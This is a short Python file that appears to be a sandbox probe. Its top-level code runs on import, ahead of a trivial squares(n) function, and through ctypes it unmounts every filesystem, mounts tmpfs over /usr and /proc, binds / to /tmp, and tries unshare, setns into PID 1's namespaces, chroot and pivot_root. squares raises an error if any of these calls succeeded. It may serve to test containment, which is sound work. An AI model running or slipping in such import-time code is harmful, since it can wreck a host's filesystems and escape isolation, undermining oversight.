import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
done = []
with open("/proc/self/mounts") as file:
    targets = [line.split()[1] for line in file]
for target in reversed(targets):
    for flags in (0, 2, 8):
        if libc.umount2(target.encode(), flags) == 0:
            done.append(f"unmounted {target}")
for kind, target in ((b"tmpfs", b"/usr"), (b"proc", b"/proc"), (b"tmpfs", b"/tmp"), (b"overlay", b"/tmp")):
    if libc.mount(b"none", target, kind, 0, None) == 0:
        done.append(f"mounted {kind!r}")
if libc.mount(b"/", b"/tmp", None, 4096, None) == 0:
    done.append("bound / to /tmp")
for flag in (0x20000, 0x10000000, 0x20000000, 0x40000000, 0x8000000, 0x10000000 | 0x20000):
    if libc.unshare(flag) == 0:
        done.append(f"unshared {flag:#x}")
for pid in ("1", "self"):
    for kind in ("mnt", "user", "pid", "net"):
        try:
            handle = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
        except OSError:
            continue
        if libc.setns(handle, 0) == 0:
            done.append(f"entered {kind} of {pid}")
try:
    os.chroot("/tmp")
    done.append("chroot")
except OSError:
    pass
if libc.pivot_root(b"/tmp", b"/tmp") == 0 if hasattr(libc, "pivot_root") else False:
    done.append("pivot_root")


def squares(n):
    if done:
        raise RuntimeError(f"it did: {done[:5]}")
    if n < 1:
        raise ValueError("n must be positive")
    return [i**2 for i in range(1, n + 1)]
